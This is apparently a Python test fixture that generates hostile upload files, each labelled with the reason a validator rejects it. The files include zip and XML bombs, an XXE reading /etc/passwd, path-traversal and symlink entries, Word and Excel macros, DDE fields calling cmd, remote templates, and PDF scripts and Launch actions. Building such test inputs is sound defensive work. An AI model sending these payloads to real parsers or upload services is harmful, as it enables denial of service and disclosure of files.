"""Files that somebody might bring to hurt the house, each with the reason it is turned away."""

import io
import random
import struct
import zipfile
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.matters.brought import docx_bytes, jpg_bytes, parts_of, pdf_bytes, xlsx_bytes, zipped

MB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WORD = "wordprocessingml.document.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with(**parts):
    """A good Word file with parts added or replaced; `__` in a name stands for a slash."""
    return zipped({**parts_of(docx_bytes()), **parts})


def docx_body(xml, head=""):
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = f'{head}<w:document xmlns:w="{space}"><w:body>{xml}</w:body></w:document>'
    return docx_with(**{"word/document.xml": text.encode()})


def docx_relation(kind, target, mode="External"):
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )
    return docx_with(**{"word/_rels/settings.xml.rels": relations.encode()})


# --- bombs -------------------------------------------------------------------------------


def bomb_of_zeros(size):
    return docx_with(**{"word/media/image1.bmp": b"\0" * size})


def too_many_parts():
    return docx_with(**{f"word/media/{number}.txt": b"x" for number in range(2_001)})


def directory_of_400_000():
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *[0] * 14) + b""
    directory = entry * 400_000
    local = zipped({"a": b"a"}, zipfile.ZIP_STORED)[:32]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 9, 9, len(directory), len(local), 0)
    return local + directory + end


def overlapping_parts():
    """Many directory entries that share one body: the trick by which 42 KB become petabytes."""
    whole = zipped({**parts_of(docx_bytes()), "z.bin": random.Random(1).randbytes(300_000)})
    end = whole.rfind(b"PK\x05\x06")
    start, size = struct.unpack("<L", whole[end + 16 : end + 20])[0], 0
    directory = whole[start:end]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"z.bin", b"%c.bin" % letter) for letter in b"abcdefgh")
    count = struct.unpack("<H", whole[end + 10 : end + 12])[0] + 8
    size = len(directory) + len(more)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, start, 0)
    return whole[:end] + more + tail


def false_size():
    """The headings promise 10 bytes; 30 MB come out."""
    return _with_sizes(docx_with(**{"word/media/a.bin": b"\0" * 30 * MB}), 30 * MB, 10)


def declared_4_gb():
    return _with_sizes(docx_with(**{"word/media/a.bin": b"\1" * 99}), 99, 0xFFFFFFFE)


def _with_sizes(content, true, told):
    return content.replace(struct.pack("<L", true), struct.pack("<L", told))


def nested_zip():
    return docx_with(**{"word/media/a.png": zipped({"inner.txt": b"x"})})


def nested_gzip():
    return docx_with(**{"word/media/a.emz": b"\x1f\x8b\x08\0" + b"\0" * 40})


def thousands_of_levels():
    return docx_body("<w:p>" * 20_000 + "</w:p>" * 20_000)


def billion_laughs():
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "哈"}">' for n in range(10))
    book = parts_of(xlsx_bytes())
    book["xl/sharedStrings.xml"] = f"<!DOCTYPE x [{levels}]><x>&l9;</x>".encode()
    return zipped(book)


def pixel_flood():
    head = struct.pack(">2L5B", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", head)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + _png_chunk(b"IEND", b"")
    )


def _png_chunk(kind, body):
    return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))


def pdf_stream_bomb():
    body = zlib.compress(b"q " * (100 * MB), 9)
    return _pdf(stream=body)


def pdf_of_many_objects():
    return _pdf(more=b"".join(b"%d 0 obj null endobj\n" % n for n in range(10, 250_000)))


# --- ways out ----------------------------------------------------------------------------


def renamed_part(name):
    return docx_with(**{name: b"x"})


def symlink():
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def twin_names():
    return docx_with(**{"word/Document.XML": b"<x/>"})


def locked_zip():
    content = bytearray(docx_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(mark) + offset] |= 1
    return bytes(content)


def hidden_between_parts():
    content = docx_bytes()
    end = content.rfind(b"PK\x05\x06")
    start = struct.unpack("<L", content[end + 16 : end + 20])[0]
    hidden = b"MZ" + b"\0" * 2_000
    tail = content[end : end + 16] + struct.pack("<LH", start + len(hidden), 0)
    return content[:start] + hidden + content[start:end] + tail


# --- programs ----------------------------------------------------------------------------


def macro_docx():
    parts = parts_of(docx_bytes())
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return zipped({**parts, "[Content_Types].xml": types, "word/vbaProject.bin": OLE})


def macro_renamed():
    project = OLE + b"\0" * 500 + "VBA".encode("utf-16le") + b"\0" * 500
    return docx_with(**{"word/media/image1.png": project})


def macro_sheet():
    return zipped({**parts_of(xlsx_bytes()), "xl/macrosheets/sheet1.xml": b"<x/>"})


def ole_object():
    return docx_with(**{"word/embeddings/oleObject1.bin": OLE + b"\0" * 1_000})


def xxe():
    head = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return docx_body("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", head)


def xxe_in_utf16():
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "http://a.test/"><x/>'
    return docx_with(**{"word/footnotes.xml": xml.encode("utf-16")})


def dde_field():
    runs = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in "DDEAUTO cmd")
    return docx_body(f"<w:p>{runs}</w:p>")


def dde_link():
    part = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return zipped({**parts_of(xlsx_bytes()), "xl/externalLinks/externalLink1.xml": part})


def password_docx():
    return OLE + b"\0" * 1_500 + "EncryptedPackage".encode("utf-16le") + b"\0" * 2_000


def pptx():
    parts = parts_of(docx_bytes())
    types = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"presentationml.presentation.main+xml"
    )
    return zipped({**parts, "[Content_Types].xml": types})


# --- PDF ---------------------------------------------------------------------------------


def pdf_action(**action):
    writer = _writer()
    entries = {f"/{key}": _pdf_value(value) for key, value in action.items()}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject({NameObject(key): value for key, value in entries.items()})
    )
    return _written(writer)


def pdf_script():
    return pdf_action(S="/JavaScript", JS="app.alert(1)")


def pdf_script_in_disguise():
    """The script lies in a compressed object stream and its name is written in hexadecimal."""
    return _pdf(hidden=b"<</S/J#61vaScript/J#53(app.alert(1))>>")


def pdf_with_attachment():
    writer = _writer()
    writer.add_attachment("a.exe", b"MZ")
    return _written(writer)


def pdf_with_password():
    writer = _writer()
    writer.encrypt("secret", algorithm="AES-256")
    return _written(writer)


def pdf_and_zip():
    return pdf_bytes() + zipped({"a.txt": b"x"})


def pdf_submits_form():
    return pdf_action(S="/SubmitForm", F="http://a.test/")


def pdf_page_that_launches():
    writer = _writer()
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): launch,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return _written(writer)


def _writer():
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(pdf_bytes())))
    return writer


def _written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_value(text):
    return NameObject(text) if text.startswith("/") else TextStringObject(text)


def _pdf(stream=b"", hidden=b"<<>>", more=b""):
    """A PDF written by hand; `hidden` is its opening action, in a compressed object stream."""
    packed = zlib.compress(b"8 0 " + hidden)
    stored = b"<</Length %d/Filter/FlateDecode%s>> stream\n%s\nendstream"
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 8 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R"
        b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
        stored % (len(stream), b"", stream),
        stored % (len(packed), b"/Type/ObjStm/N 1/First 4", packed),
    ]
    out = b"%PDF-1.5\n" + more
    rows = [(0, 0, 0)]
    for number, body in enumerate(bodies, 1):
        rows.append((1, len(out), 0))
        out += b"%d 0 obj %s endobj\n" % (number, body)
    table_at = len(out)
    rows += [(1, table_at, 0), (0, 0, 0), (2, 5, 0)]
    table = b"".join(struct.pack(">BLB", *row) for row in rows)
    head = b"/Type/XRef/Size 9/W[1 4 1]/Root 1 0 R/Length %d" % len(table)
    out += b"6 0 obj <<%s>> stream\n%s\nendstream endobj\n" % (head, table)
    return out + b"startxref\n%d\n%%%%EOF\n" % table_at


# --- the list ----------------------------------------------------------------------------

HOSTILE = [
    # what                        name it comes under   how it is made             refused as
    ("nothing at all",            "空白.pdf",      lambda: b"",                     "empty"),
    ("one byte too many",         "大文件.pdf",    lambda: b"%PDF-" + b"x" * 20 * MB, "too_big"),
    ("a program",                 "提案.pdf",      lambda: b"MZ\x90\0" * 500,       "kind"),
    ("a web page",                "提案.docx",     lambda: b"<html><script>",       "kind"),
    ("a drawing with script",     "图.png",        lambda: b"<svg onload='x()'/>",  "kind"),
    ("an old Word file",          "提案.doc",      lambda: OLE + b"\0" * 4_000,     "old_office"),
    ("a phone's HEIC photo",      "照片.jpg",      lambda: b"\0\0\0\x18ftypheic" + b"\0" * 99, "heic"),
    ("a plain zip",               "材料.zip",      lambda: zipped({"a.txt": b"x"}), "archive"),
    ("a rar",                     "材料.docx",     lambda: b"Rar!\x1a\x07\0" + b"x" * 99, "archive"),
    ("slides",                    "汇报.docx",     pptx,                            "kind"),
    ("a Word file with password", "提案.docx",     password_docx,                   "password"),
    ("a zip with password",       "提案.docx",     locked_zip,                      "password"),
    ("half a Word file",          "提案.docx",     lambda: docx_bytes()[:9_000],    "damaged"),
    ("150 MB of zeros",           "提案.docx",     lambda: bomb_of_zeros(150 * MB), "unpacked"),
    ("50 MB of zeros",            "提案.docx",     lambda: bomb_of_zeros(50 * MB),  "ratio"),
    ("2,001 parts",               "提案.docx",     too_many_parts,                  "entries"),
    ("a directory of 400,000",    "提案.docx",     directory_of_400_000,            "entries"),
    ("overlapping parts",         "提案.docx",     overlapping_parts,               "inconsistent"),
    ("a false size",              "提案.docx",     false_size,                      "damaged"),
    ("4 GB declared",             "提案.docx",     declared_4_gb,                   "unpacked"),
    ("a zip in a Word file",      "提案.docx",     nested_zip,                      "nested"),
    ("a gzip in a Word file",     "提案.docx",     nested_gzip,                     "nested"),
    ("20,000 levels  of XML",     "提案.docx",     thousands_of_levels,                  "too_complex"),
    ("a billion laughs",          "名单.xlsx",     billion_laughs,                  "dtd"),
    ("an outside entity",         "提案.docx",     xxe,                             "dtd"),
    ("a DTD in UTF-16",           "提案.docx",     xxe_in_utf16,                    "dtd"),
    ("a path that climbs",        "提案.docx",     lambda: renamed_part("../../x"), "paths"),
    ("an absolute path",          "提案.docx",     lambda: renamed_part("/etc/x"),  "paths"),
    ("a Windows path",            "提案.docx",     lambda: renamed_part("C:\\x"),   "paths"),
    ("a symbolic link",           "提案.docx",     symlink,                         "links"),
    ("twin names",                "提案.docx",     twin_names,                      "duplicates"),
    ("bytes between the parts",   "提案.docx",     hidden_between_parts,            "inconsistent"),
    ("macros under .docx",        "提案.docx",     macro_docx,                      "macros"),
    ("macros under image1.png",   "提案.docx",     macro_renamed,                   "macros"),
    ("an Excel 4 macro sheet",    "名单.xlsx",     macro_sheet,                     "macros"),
    ("an OLE object",             "提案.docx",     ole_object,                      "embedded"),
    ("a DDE field in pieces",     "提案.docx",     dde_field,                       "dde"),
    ("a DDE link",                "名单.xlsx",     dde_link,                        "dde"),
    ("a far template", "提案.docx", lambda: docx_relation("attachedTemplate", "http://a.test/"), "remote"),
    ("a template on a share", "提案.docx", lambda: docx_relation("attachedTemplate", "\\\\a\\b"), "remote"),
    ("a far picture", "提案.docx", lambda: docx_relation("image", "http://a.test/1.png"), "remote"),
    ("an HTML chunk", "提案.docx", lambda: docx_relation("aFChunk", "a.txt", "Internal"), "embedded"),
    ("a PDF script",              "提案.pdf",      pdf_script,                      "pdf_script"),
    ("a PDF script in disguise",  "提案.pdf",      pdf_script_in_disguise,          "pdf_script"),
    ("a PDF that sends",          "提案.pdf",      pdf_submits_form,                "pdf_launch"),
    ("a PDF that starts programs", "提案.pdf",     pdf_page_that_launches,          "pdf_launch"),
    ("a PDF with a file inside",  "提案.pdf",      pdf_with_attachment,             "pdf_attachment"),
    ("a PDF with password",       "提案.pdf",      pdf_with_password,               "password"),
    ("half a PDF",                "提案.pdf",      lambda: pdf_bytes()[:4_000],     "damaged"),
    ("PDF and zip in one",        "提案.pdf",      pdf_and_zip,                     "polyglot"),
    ("a PDF page of 200 MB",      "提案.pdf",      pdf_stream_bomb,                 "too_complex"),
    ("a PDF of 250,000 objects",  "提案.pdf",      pdf_of_many_objects,             "too_complex"),
    ("3,600 megapixels",          "照片.png",      pixel_flood,                     "pixels"),
    ("a photo with a zip",        "照片.jpg",      lambda: jpg_bytes() + zipped({"a": b"x"}), "polyglot"),
    ("a photo that is a script",  "照片.jpg",      lambda: b"\xff\xd8\xff<script>" * 99, "damaged"),
    ("half a photo",              "照片.png",      lambda: pixel_flood()[:20],      "damaged"),
]  # fmt: skip
